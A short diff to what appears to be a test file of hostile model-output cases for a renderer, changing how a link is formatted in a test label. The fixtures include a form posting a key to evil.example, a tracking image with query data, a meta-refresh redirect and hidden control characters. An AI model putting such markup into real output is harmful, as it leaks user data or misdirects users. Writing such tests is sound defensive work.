@@ -142,7 +142,7 @@ MARKUP = (
     Behaviour("markup", whole(f"{ALARM}\n\n<form action=//evil.example><input name=key></form>"), stands="either"),
     Behaviour("markup in code", whole(f"`{ALARM}`\n\n```html\n{ALARM}\n```"), stands="either"),
     Behaviour("markup in the reason", Stream((chunk({"refusal": ALARM}), chunk({}, "stop"))), says="declined"),
-    *(Behaviour(f"a link to {link!a}", whole(f"[Open]({link}) or <{link}> or [this][x].\n\n[x]: {link}"), stands="either") for link in LINKS),
+    *(Behaviour(f"a link to {ascii(link)}", whole(f"[Open]({link}) or <{link}> or [this][x].\n\n[x]: {link}"), stands="either") for link in LINKS),
     Behaviour("an image from elsewhere", whole("![x](http://evil.example/?q=step) and ![y][z]\n\n[z]: http://evil.example/z.png"), stands="either"),
     Behaviour("a refresh of the page", whole('<meta http-equiv="refresh" content="0;url=http://evil.example/">\n<base href="//evil.example/">'), stands="either"),
     Behaviour("signs that no page shows", whole("Slow.\u202e\u2066 lanif \x1b[31m\x00\x07\ufeff\U000e0041"), stands="either"),
